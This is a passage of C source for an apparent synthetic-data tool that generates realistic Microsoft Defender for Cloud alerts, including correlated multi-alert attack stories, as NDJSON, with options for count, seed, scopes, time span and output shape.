     {"SQL.DB_SuspiciousIpAnomaly", "ARM_OperationFromSuspiciousIP", NULL, NULL}},
    {"geo", -1, OS_ANY, -1, 0, {"Storage.Blob_GeoAnomaly", "CosmosDB_GeoAnomaly", NULL, NULL}},
    {"dns", -1, OS_LINUX, -1, 0, {"AzureDNS_DarkWeb", "Network_CommunicationWithC2", NULL, NULL}},
    {"suspicious-ip",
     -1,
     OS_ANY,
     -1,
     0,
     {"ARM_OperationFromSuspiciousIP", "Storage.Blob_SuspiciousIp", NULL, NULL}},
};

/* ------------------------------------------------------------------------- */

static int cmp_spec(const void *x, const void *y)
{
    const struct spec *a = x, *b = y;
    if (a->arrival != b->arrival) {
        return a->arrival < b->arrival ? -1 : 1;
    }
    return a->start < b->start ? -1 : a->start > b->start;
}

/* A background alert's delay between start and arrival: minutes usually, hours for a few. */
static int64_t arrival_delay(struct rng *r)
{
    if (rng_chance(r, 0.05)) {
        return TICKS_PER_HOUR + (int64_t)(rng_unit(r) * 5.0 * (double)TICKS_PER_HOUR);
    }
    return 30 * TICKS_PER_SEC + (int64_t)(rng_unit(r) * 4.5 * (double)TICKS_PER_MIN);
}

static uint32_t draw_row(struct gen *g)
{
    double u = rng_unit(&g->rng);
    int plan = 0;
    while (plan < GP_COUNT - 1 && u > g->plan_cdf[plan]) {
        plan++;
    }
    for (;;) {
        uint32_t n = g->cat.n_plan[plan];
        if (n == 0) {
            plan = (plan + 1) % GP_COUNT;
            continue;
        }
        uint32_t row = g->cat.by_plan[plan][rng_below(&g->rng, n)];
        /* Deprecated types still arrive from older agents, at half the rate. */
        if (g->cat.rows[row].deprecated && rng_chance(&g->rng, 0.5)) {
            continue;
        }
        return row;
    }
}

static uint8_t draw_shape(struct rng *r, int shape_opt)
{
    if (shape_opt >= 0) {
        return (uint8_t)shape_opt;
    }
    uint32_t u = rng_below(r, 100);
    return u < 40 ? SHAPE_EXPORT : u < 70 ? SHAPE_SENTINEL : SHAPE_REST;
}

static void usage(FILE *f)
{
    fputs(
        "usage: gen_alerts [--count N] [--shape rest|export|sentinel|mixed] [--seed S]\n"
        "                  [--scopes K] [--span-days D] [--attacks M] [--catalog PATH]\n"
        "                  [--lifetime-days L] [--detail-mix [M,]T,U,R]\n"
        "Writes N realistic Defender for Cloud alerts as NDJSON on stdout (deterministic for a "
        "seed).\n"
        "  --count N       alerts to write, attack stories included (default 1000)\n"
        "  --shape S       input shape; mixed = 40% export, 30% sentinel, 30% rest (default)\n"
        "  --seed S        PRNG seed (default 1)\n"
        "  --scopes K      tenants, each with one subscription and its entity pools (default 8)\n"
        "  --span-days D   start times spread over D days from 2025-01-06 (default 30)\n"
        "  --attacks M     multi-alert attack stories sharing entities (default 0)\n"
        "  --lifetime-days L  each pool entity (user, ip, vm, resource...) is active for at most\n"
        "                  L days, then replaced by a new one at the same popularity, so state\n"
        "                  does not grow with the span (default 0: entities live forever)\n"
        "  --detail-mix [M,]T,U,R  percent of minimal, terse, usual and rich alerts (default\n"
        "                  0,55,35,10); a minimal alert is a terse one with a bare envelope\n"
        "                  (no correlation key, no AAD identifier, 1 extended property)\n"
        "  --catalog PATH  Microsoft's alert reference table (default "
        "data/defender-alert-catalog.tsv)\n",
        f);
}

static unsigned long long parse_num(const char *opt, const char *s, unsigned long long max)
{
    char *end;
    errno = 0;
    unsigned long long v = strtoull(s, &end, 10);
    if (errno != 0 || end == s || *end != '\0' || s[0] == '-' || v > max) {
        fprintf(stderr, "gen_alerts: %s: bad number '%s'\n", opt, s);
        usage(stderr);
        exit(2);
    }
    return v;
}

int main(int argc, char **argv)
{
    unsigned long long count = 1000, seed = 1, nscopes = 8, span_days = 30, attacks = 0;
    unsigned long long lifetime_days = 0;
    unsigned detail_mix[4] = {0, 55, 35, 10};
    int shape_opt = -1;
    const char *catalog_path = "data/defender-alert-catalog.tsv";
    for (int i = 1; i < argc; i++) {
        const char *opt = argv[i];
        if (strcmp(opt, "--help") == 0 || strcmp(opt, "-h") == 0) {
            usage(stdout);
            return 0;
        }
        static const char *const known[] = {"--count",     "--seed",          "--scopes",
                                            "--span-days", "--attacks",       "--catalog",
                                            "--shape",     "--lifetime-days", "--detail-mix"};
        int is_known = 0;
        for (size_t k = 0; k < ARRAY_LEN(known); k++) {
            is_known |= strcmp(opt, known[k]) == 0;
        }
        if (!is_known) {
            fprintf(stderr, "gen_alerts: unknown option '%s'\n", opt);
            usage(stderr);
            return 2;
        }
        if (i + 1 >= argc) {
            fprintf(stderr, "gen_alerts: %s: missing value\n", opt);
            usage(stderr);
            return 2;
        }
        const char *val = argv[++i];
        if (strcmp(opt, "--count") == 0) {
            count = parse_num(opt, val, 100000000ull);
        } else if (strcmp(opt, "--seed") == 0) {
            seed = parse_num(opt, val, UINT64_MAX);
        } else if (strcmp(opt, "--scopes") == 0) {
            nscopes = parse_num(opt, val, 100000);
        } else if (strcmp(opt, "--span-days") == 0) {
            span_days = parse_num(opt, val, 36500);
        } else if (strcmp(opt, "--attacks") == 0) {
            attacks = parse_num(opt, val, 10000000ull);
        } else if (strcmp(opt, "--lifetime-days") == 0) {
            lifetime_days = parse_num(opt, val, 36500);
        } else if (strcmp(opt, "--detail-mix") == 0) {
            unsigned v[4] = {0, 0, 0, 0};
            char extra;
            int got = sscanf(val, "%u,%u,%u,%u%c", &v[0], &v[1], &v[2], &v[3], &extra);
            if (got == 3) {
                v[3] = v[2];
                v[2] = v[1];
                v[1] = v[0];
                v[0] = 0;
            }
            if ((got != 3 && got != 4) || v[0] + v[1] + v[2] + v[3] != 100) {
                fprintf(stderr,
                        "gen_alerts: --detail-mix: expected [M,]T,U,R summing to 100, got '%s'\n",
                        val);
                usage(stderr);
                return 2;
            }
            memcpy(detail_mix, v, sizeof v);
        } else if (strcmp(opt, "--catalog") == 0) {
            catalog_path = val;
        } else if (strcmp(opt, "--shape") == 0) {
            shape_opt = -2;
            for (int s = 0; s < SHAPE_COUNT; s++) {
                if (strcmp(val, shape_names[s]) == 0) {
                    shape_opt = s;
                }
            }
            if (strcmp(val, "mixed") == 0) {
                shape_opt = -1;
            }
            if (shape_opt == -2) {
                fprintf(stderr, "gen_alerts: --shape: unknown shape '%s'\n", val);
                usage(stderr);
                return 2;
            }
        } else {
            fprintf(stderr, "gen_alerts: unknown option '%s'\n", opt);
            usage(stderr);
            return 2;
        }
    }
    if (nscopes == 0 || span_days == 0) {
        fprintf(stderr, "gen_alerts: --scopes and --span-days must be at least 1\n");
        return 2;
    }

    static struct gen gen;
    struct gen *g = &gen;
    g->seed = seed;
    rng_seed(&g->rng, seed);
    catalog_load(&g->cat, catalog_path);
    g->nscopes = (uint32_t)nscopes;
    g->scopes = xrealloc(NULL, g->nscopes * sizeof *g->scopes);
    for (uint32_t i = 0; i < g->nscopes; i++) {
        scope_init(g, i, &g->scopes[i]);
    }
    for (int p = 0; p < P_COUNT; p++) {
        zipf_init(&g->zipf[p], pool_size[p]);
    }
    double total = 0;
    for (int p = 0; p < GP_COUNT; p++) {
        total += g->cat.n_plan[p] ? plan_weight[p] : 0;
    }
    double acc = 0;
    for (int p = 0; p < GP_COUNT; p++) {
        acc += g->cat.n_plan[p] ? plan_weight[p] : 0;
        g->plan_cdf[p] = acc / total;
    }
    g->strpool = xrealloc(NULL, STRPOOL_SIZE);
    g->span_start = (int64_t)20094 * TICKS_PER_DAY; /* 2025-01-06T00:00:00Z */
    g->span_ticks = (int64_t)span_days * TICKS_PER_DAY;
    g->lifetime_ticks = (int64_t)lifetime_days * TICKS_PER_DAY;
    g->detail_cut[0] = detail_mix[0];
    g->detail_cut[1] = detail_mix[0] + detail_mix[1];
    g->detail_cut[2] = detail_mix[0] + detail_mix[1] + detail_mix[2];

    /* Plan every alert first (start, arrival, type, scope, shape), then write them in arrival
     * order. */
    struct spec *specs = xrealloc(NULL, (size_t)(count ? count : 1) * sizeof *specs);
    size_t n = 0;
    size_t story_alerts = 0;
    g->stories = xrealloc(NULL, (size_t)(attacks ? attacks : 1) * sizeof *g->stories);
    for (unsigned long long s = 0; s < attacks && n < count; s++) {
        const struct story_tpl *t =
            &story_tpls[rng_below(&g->rng, (uint32_t)ARRAY_LEN(story_tpls))];
        uint32_t scope = rng_below(&g->rng, g->nscopes);
        struct story *st = &g->stories[g->nstories];
        /* The start is drawn after the picks, as before --lifetime-days existed, so that the
         * default corpora keep their bytes; live entities need it first. */
        int64_t t0 = 0;
        if (g->lifetime_ticks > 0) {
            t0 = g->span_start + (int64_t)(rng_unit(&g->rng) * (double)g->span_ticks);
        }
        g->strpool_used = 0; /* draw_picks may build VMs to match the OS; keep only indexes */
        draw_picks(g, scope, t->os, t0, &st->picks);
        st->picks.force_account = 1;
        st->picks.force_ip = 1;
        st->picks.attack_ip = 1;
        st->picks.arm_target = t->arm_target;
        if (t->principal_sp >= 0) {
            st->picks.sp = t->principal_sp;
        }
        if (g->lifetime_ticks <= 0) {
            t0 = g->span_start + (int64_t)(rng_unit(&g->rng) * (double)g->span_ticks);
        }
        st->picks.proc_slot = t->shared_process ? (int)rng_below(&g->rng, 8) : -1;
        st->picks.proc_time = t0 - (int64_t)rng_below(&g->rng, 3600) * TICKS_PER_SEC;
        uint8_t shape = draw_shape(&g->rng, shape_opt);
        size_t first = n;
        int64_t at = t0;
        for (int k = 0; k < MAX_STEPS && t->types[k] != NULL && n < count; k++) {
            const struct row *row = catalog_find(&g->cat, t->types[k]);
            if (row == NULL) {
                continue;
            }
            struct spec *sp = &specs[n++];
            sp->start = at;
            sp->arrival = at + TICKS_PER_MIN + (int64_t)rng_below(&g->rng, 20) * TICKS_PER_MIN;
            sp->row = (uint32_t)(row - g->cat.rows);
            sp->scope = scope;
            sp->shape = shape;
            sp->story = (int32_t)g->nstories;
            at += (5 + (int64_t)rng_below(&g->rng, 115)) * TICKS_PER_MIN;
        }
        if (n - first < 2) {
            n = first; /* the catalog lacks the types of this story */
            continue;
        }
        story_alerts += n - first;
        g->nstories++;
    }
    for (; n < count; n++) {
        struct spec *sp = &specs[n];
        sp->start = g->span_start + (int64_t)(rng_unit(&g->rng) * (double)g->span_ticks);
        sp->arrival = sp->start + arrival_delay(&g->rng);
        sp->row = draw_row(g);
        sp->scope = rng_below(&g->rng, g->nscopes);
        sp->shape = draw_shape(&g->rng, shape_opt);
        sp->story = -1;
    }
    qsort(specs, n, sizeof *specs, cmp_spec);

    static char outbuf[1 << 20];
    setvbuf(stdout, outbuf, _IOFBF, sizeof outbuf);
    static struct alert alert;
    size_t total_bytes = 0;
    size_t per_shape[SHAPE_COUNT] = {0, 0, 0};
    for (size_t i = 0; i < n; i++) {
        g->strpool_used = 0;
        build_alert(g, &specs[i], &alert);
        g->out.len = 0;
        switch (alert.shape) {
        case SHAPE_REST:
            emit_rest(g, &alert, &g->out);
            break;
        case SHAPE_EXPORT:
            emit_export(&alert, &g->out);
            break;
        case SHAPE_SENTINEL:
        default:
            emit_sentinel(g, &alert, &g->out);
            break;
        }
        buf_ch(&g->out, '\n');
        if (fwrite(g->out.p, 1, g->out.len, stdout) != g->out.len) {
            die("write error on standard output");
        }
        total_bytes += g->out.len;
        per_shape[alert.shape]++;
    }
    if (fflush(stdout) != 0) {
        die("write error on standard output");
    }
    fprintf(stderr,
            "gen_alerts: %zu alerts (rest %zu, export %zu, sentinel %zu), %zu bytes, mean %.0f "
            "bytes/alert; "
            "%u attack stories (%zu alerts), %u scopes, %zu alert types, seed %llu\n",
            n, per_shape[SHAPE_REST], per_shape[SHAPE_EXPORT], per_shape[SHAPE_SENTINEL],
            total_bytes, n ? (double)total_bytes / (double)n : 0.0, g->nstories, story_alerts,
            g->nscopes, g->cat.n, seed);
    free(specs);
    return 0;
}
